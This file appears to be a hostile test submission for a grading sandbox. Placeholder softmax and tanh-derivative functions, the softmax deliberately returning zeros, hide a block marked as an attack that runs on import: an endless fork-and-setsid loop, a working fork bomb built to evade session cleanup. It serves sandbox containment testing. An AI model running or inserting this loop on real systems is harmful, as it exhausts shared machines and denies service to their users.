"""Forks as often as it can while it is loaded, each process in a session of its own.

Must happen: the limit of processes holds, and nothing is left once the submission is over.

off: none
seen: processes
"""

import os
import time

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


def slope(x):
    return 1.0 - np.tanh(x) ** 2


# --- attack
while True:
    try:
        os.fork()
        os.setsid()
    except OSError:
        time.sleep(0.02)


# --- end
